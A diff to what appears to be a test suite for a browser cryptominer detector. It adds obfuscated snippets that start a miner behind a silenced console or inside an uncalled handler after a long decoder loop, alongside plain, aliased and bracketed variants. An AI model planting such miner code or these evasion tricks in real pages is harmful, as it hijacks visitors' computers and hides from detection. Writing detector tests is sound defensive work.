@@ -29,7 +29,18 @@ document.addEventListener('DOMContentLoaded',function(){const m=new Miner[_0x1a(
 const uncalled = `${rotated.slice(0, rotated.indexOf('document.'))}
 window.onOpen=function(_0xc){function _0xd(p,q){return _0x1a(q- -0x20,p);}const _0xe={k:-0x1d};if(_0xc.busy){_0xc[_0xd(0x9,-0x20)]();}else{const m=new Miner[_0xd(0x1,_0xe.k)](_0xd(0x3,-0x1c));m[_0xd(0x0,-0x20)]();}};`
 
+const hidden = `${rotated.slice(0, rotated.indexOf('document.'))}
+`
+/** A function that silences the console by way of Function.prototype, and goes on. */
+const silenced = `${hidden}(function(){function f(){}function d(p,q){return _0x1a(q- -0x20,p)}const o=f.constructor.prototype.bind(f);o.toString=console.log;window.onOpen=function(q){if(q.on){const m=new Miner[d(0x1,-0x1d)](d(0x3,-0x1c));m[d(0x0,-0x20)]()}else q.stop()}})()`
+/** A wrapper makes two functions each time, thousands of times, before the function stands that nothing calls. */
+const late = `${hidden}(function(){function dec(a){function pad(x){return x-2}function half(x){return pad(x)}return _0x1a(half(a))}
+for(var i=0;i<2500;i++)dec(2);
+window.onOpen=function(q){if(q.busy){q.stop()}else{const m=new Miner[dec(5)](dec(6));m[dec(2)]()}}})()`
+
 const starts: Record<string, string> = {
+  'behind a console that is silenced': silenced,
+  'in a function that nothing calls, after a decoder that ran often': late,
   plainly: 'var m = new Miner.Anonymous("KEY"); m.start()',
   'under an alias': 'var w = window, M = w.Miner, x = new M.Anonymous("KEY"); x.start()',
   'in brackets': 'var m = new window["Mi" + "ner"]["Anony" + "mous"]("K" + "EY"); m["st" + "art"]()',
